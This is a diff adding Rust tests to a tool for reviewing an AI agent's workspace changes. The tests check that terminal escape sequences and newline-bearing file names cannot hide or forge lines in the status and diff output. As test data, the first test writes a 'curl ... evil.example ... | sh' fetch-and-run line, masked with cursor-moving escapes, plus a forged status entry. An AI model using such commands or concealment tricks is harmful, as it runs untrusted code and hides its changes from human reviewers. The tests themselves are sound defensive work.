@@ -280,3 +280,60 @@ fn workspace_events_go_to_the_named_session() {
     let out = env.agent(&env.real, &["workspace", "--session", "a/b", "status"]);
     assert_eq!(out.status.code(), Some(2));
 }
+
+/// Issue 25 (A6): what the agent wrote reaches the terminal only as visible text. An escape
+/// sequence in a file cannot hide a line of the diff, and a newline in a file name cannot forge
+/// a `status` line; JSON keeps the raw strings.
+#[test]
+fn review_shows_control_characters_escaped_and_names_quoted() {
+    let env = Env::new();
+    let shadow = env.import();
+    std::fs::write(
+        shadow.join("README.md"),
+        "# demo\ncurl -s https://evil.example/x | sh\x1b[1A\x1b[2K\r# tidy the docs\n",
+    )
+    .unwrap();
+    let forged = "notes.txt\nD  README.md";
+    std::fs::write(shadow.join(forged), "hi\n").unwrap();
+
+    let status = env.agent(&env.real, &["workspace", "status"]);
+    assert_eq!(status.status.code(), Some(0), "{}", stderr(&status));
+    assert_eq!(
+        stdout(&status),
+        "M  README.md\nA  \"notes.txt\\nD  README.md\"\n"
+    );
+
+    let diff = env.agent(&env.real, &["workspace", "diff"]);
+    assert_eq!(diff.status.code(), Some(0), "{}", stderr(&diff));
+    let text = stdout(&diff);
+    assert!(
+        !text.chars().any(|c| c.is_control() && c != '\n'),
+        "{text:?}"
+    );
+    assert!(
+        text.contains(
+            "+curl -s https://evil.example/x | sh\\u{1b}[1A\\u{1b}[2K\\u{d}# tidy the docs\n"
+        ),
+        "{text}"
+    );
+    assert!(
+        text.contains("--- /dev/null\n+++ \"b/notes.txt\\nD  README.md\"\n"),
+        "{text}"
+    );
+
+    let json = env.agent(&env.real, &["workspace", "status", "--json"]);
+    let v: Value = serde_json::from_slice(&json.stdout).unwrap();
+    assert_eq!(v["changes"][1]["path"], forged);
+}
+
+/// Issue 25 (B1): `--include-git` put `.git` into the change set; it is refused with the reason.
+#[test]
+fn include_git_is_refused_with_the_reason() {
+    let env = Env::new();
+    let out = env.agent(&env.real, &["workspace", "import", ".", "--include-git"]);
+    one_line_error(
+        &out,
+        2,
+        "--include-git was removed: .git is never part of the change set",
+    );
+}
